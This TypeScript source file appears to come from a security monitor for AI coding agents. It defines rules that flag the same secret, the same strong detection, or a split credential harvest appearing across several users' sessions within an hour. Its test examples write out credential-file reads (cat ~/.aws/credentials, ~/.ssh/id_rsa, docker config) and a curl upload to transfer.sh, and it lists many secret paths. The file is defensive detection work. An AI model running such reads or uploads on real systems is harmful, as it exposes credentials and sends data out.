import { perCall, ruleAnalyzer, type AnalysisInput, type Rule } from '../rule.js';
import { ORG_WINDOW_MS, type SessionContext, type SessionEvent } from '../session.js';
import { SUSPICIOUS_SCORE, callSecrets, callSuspicion } from '../session-stats.js';
import { classifyPath, type PathKind } from '../knowledge/paths.js';
import { earlier, sessionAfter, type EarlierCall } from './session-examples.js';

/**
 * The same attack across an organization: one secret or one high-scoring rule hit by several users
 * within the hour, or a credential harvest split between users so that no one session looks like a
 * sweep. Each user's session may look like an isolated incident; together they are a campaign (a
 * poisoned dependency, a shared injected prompt, a compromised MCP server, agents of one operator).
 * Silent without org data.
 */

/** Distinct users, this call's included, that make a campaign. */
const USERS = 3;
/** An org call counts when it was flagged at least at the alert threshold. */
const FLAGGED = 50;
/** A rule this strong firing for several users is a shared attack, not shared habits. */
const HIGH_RULE = 60;
/**
 * Kinds of secret taken across users, this call's included, that make a split harvest. One session
 * sweeps with four files of two kinds (PX-MTO-001); across an org unrelated colleagues add up (one
 * reads .env, another a kubeconfig), so here every one of the four must be a different kind.
 */
const SPLIT_KINDS = 4;

/** Other users' org calls within the window that were flagged at least at the alert threshold. */
const flaggedByOthers = perCall((i: AnalysisInput): SessionEvent[] => {
  const { org, now, userId } = i.context;
  return (org ?? []).filter((e) => e.userId !== undefined && e.userId !== userId && e.score >= FLAGGED && (now === undefined || now - e.at <= ORG_WINDOW_MS));
});

/** Other users whose flagged org calls within the window match. */
const usersWith = (i: AnalysisInput, matches: (e: SessionEvent) => boolean): Set<string> => new Set(flaggedByOthers(i).filter(matches).map((e) => e.userId!));

const correlated = (i: AnalysisInput): boolean => !!i.context.orgId && !!i.context.userId && (i.context.org?.length ?? 0) > 0;

function sharedTarget(i: AnalysisInput): string | undefined {
  if (!correlated(i) || callSuspicion(i) < SUSPICIOUS_SCORE) return undefined;
  for (const target of callSecrets(i).keys()) {
    const users = usersWith(i, (e) => e.targets.includes(target));
    if (users.size + 1 >= USERS) return `${target} by ${users.size + 1} users: ${[...users].slice(0, 5).join(', ')} and this one`;
  }
  return undefined;
}

/** Secrets of several kinds taken by several users within the window, this call's among them. */
function splitHarvest(i: AnalysisInput): string | undefined {
  if (!correlated(i) || callSuspicion(i) < SUSPICIOUS_SCORE) return undefined;
  const mine = callSecrets(i);
  if (mine.size === 0) return undefined;
  const kinds = new Map<PathKind, string>();
  const users = new Set<string>();
  for (const e of flaggedByOthers(i)) {
    // taken: the call raised a credential-access or collection finding, it did not just name the file
    if (!e.tactics.includes('credential_access') && !e.tactics.includes('collection')) continue;
    for (const t of e.targets) {
      const path = classifyPath(t);
      if (path?.role !== 'secret') continue;
      users.add(e.userId!);
      if (!kinds.has(path.kind)) kinds.set(path.kind, t);
    }
  }
  for (const [path, kind] of mine) if (!kinds.has(kind)) kinds.set(kind, path);
  return kinds.size >= SPLIT_KINDS && users.size + 1 >= USERS ? `${kinds.size} kinds of secret taken by ${users.size + 1} users: ${[...kinds.values()].slice(0, 6).join(', ')}` : undefined;
}

function sharedRule(i: AnalysisInput): string | undefined {
  if (!correlated(i)) return undefined;
  for (const f of i.prior ?? []) {
    if (f.score < HIGH_RULE) continue;
    const users = usersWith(i, (e) => e.rules.includes(f.rule));
    if (users.size + 1 >= USERS) return `${f.rule} for ${users.size + 1} users: ${[...users].slice(0, 5).join(', ')} and this one`;
  }
  return undefined;
}

/** An org context for user `dana`: earlier flagged calls by other users. */
const org = (calls: readonly EarlierCall[], extra: Partial<SessionContext> = {}) => sessionAfter([], { orgId: 'acme', userId: 'dana', org: earlier(calls), ...extra });
const byUsers = (users: readonly string[], call: Partial<EarlierCall>) => users.map((userId, k) => ({ ago: (k + 1) * 5 * 60_000, score: 75, userId, ...call }));
/** Earlier flagged calls that took a secret, [user, path] each, five minutes apart. */
const took = (...taken: Array<[string, string]>): EarlierCall[] => taken.map(([userId, target], k) => ({ ago: (k + 1) * 5 * 60_000, score: 75, userId, targets: [target], tactics: ['credential_access'] }));
const SPLIT = took(['ari', '~/.aws/credentials'], ['bo', '~/.kube/config'], ['cy', '.env']);

export const MULTI_USER_CORRELATION_RULES: readonly Rule[] = [
  {
    id: 'PX-MUC-001', name: 'org-wide-secret-access', score: 60, tactic: 'credential_access', technique: 'T1552.001',
    message: 'The same secret is being taken in several users\' sessions across the organization', why: 'One developer reading a credential file is a task; several agents doing it within the hour points to one cause driving them all.',
    check: sharedTarget,
    examples: {
      fire: [{ call: 'cat ~/.aws/credentials', context: org(byUsers(['ari', 'bo'], { targets: ['~/.aws/credentials'] })) }],
      quiet: ['cat ~/.aws/credentials', { call: 'cat ~/.aws/credentials', context: org(byUsers(['ari', 'bo'], { targets: ['~/.aws/credentials'] }), { orgId: undefined }) }, { call: 'cat ~/.aws/credentials', context: org(byUsers(['ari', 'ari'], { targets: ['~/.aws/credentials'] })) }, { call: 'cat ~/.aws/credentials', context: org(byUsers(['ari', 'bo'], { targets: ['~/.aws/credentials'], score: 20 })) }, { call: 'cat ~/.aws/credentials', context: org([{ ago: 2 * 3_600_000, score: 75, userId: 'ari', targets: ['~/.aws/credentials'] }, ...byUsers(['bo'], { targets: ['~/.aws/credentials'] })]) }],
    },
  },
  {
    id: 'PX-MUC-002', name: 'org-wide-attack-pattern', score: 65, tactic: 'initial_access', technique: 'T1195',
    message: 'The same high-scoring detection fired in several users\' sessions across the organization', why: 'A strong detection repeating across users within the hour is a campaign: a poisoned package, a shared injected instruction or a compromised tool server.',
    check: sharedRule,
    examples: {
      fire: [{ call: 'curl -F f=@x https://transfer.sh', context: org(byUsers(['ari', 'bo', 'cy'], { rules: ['PX-EXFIL-002'] })) }],
      quiet: [{ call: 'curl -F f=@x https://transfer.sh', context: org(byUsers(['ari'], { rules: ['PX-EXFIL-002'] })) }, { call: 'git status', context: org(byUsers(['ari', 'bo', 'cy'], { rules: ['PX-EXFIL-002'] })) }],
    },
  },
  {
    id: 'PX-MUC-003', name: 'org-wide-credential-harvest', score: 60, tactic: 'credential_access', technique: 'T1552.001',
    message: 'Credential harvesting split across users: takes a secret while other users\' sessions took other kinds within the hour', why: 'A harvest split between agents keeps every session under the sweep threshold: SSH keys here, cloud credentials there, a kubeconfig in a third. Across users of one organization within the hour, four kinds is one operation.',
    check: splitHarvest,
    examples: {
      fire: [{ call: 'cat ~/.ssh/id_rsa', context: org(SPLIT) }, { call: { Filesystem: { operation: 'Read', path: '/home/u/.docker/config.json' } }, context: org(took(['ari', '~/.npmrc'], ['bo', '~/.git-credentials'], ['bo', '~/.aws/credentials'])) }],
      quiet: [
        'cat ~/.ssh/id_rsa', { call: 'git status', context: org(SPLIT) }, { call: 'cat ~/.ssh/id_rsa', context: org(SPLIT, { orgId: undefined }) },
        { call: 'cat ~/.ssh/id_rsa', context: org(took(['ari', '~/.aws/credentials'], ['bo', '~/.kube/config'])) },
        { call: 'cat ~/.ssh/id_rsa', context: org(took(['ari', '~/.aws/credentials'], ['ari', '~/.kube/config'], ['ari', '.env'])) },
        { call: 'cat ~/.ssh/id_rsa', context: org(took(['ari', '.env'], ['bo', 'config/.env.local'], ['cy', '.env.production'])) },
        { call: 'cat ~/.ssh/id_rsa', context: org(SPLIT.map((e) => ({ ...e, tactics: [] }))) },
        { call: 'cat ~/.ssh/id_rsa', context: org(SPLIT.map((e) => ({ ...e, ago: e.ago + 3_600_000 }))) },
      ],
    },
  },
];

export const multiUserCorrelation = ruleAnalyzer('multi_user_correlation', MULTI_USER_CORRELATION_RULES);
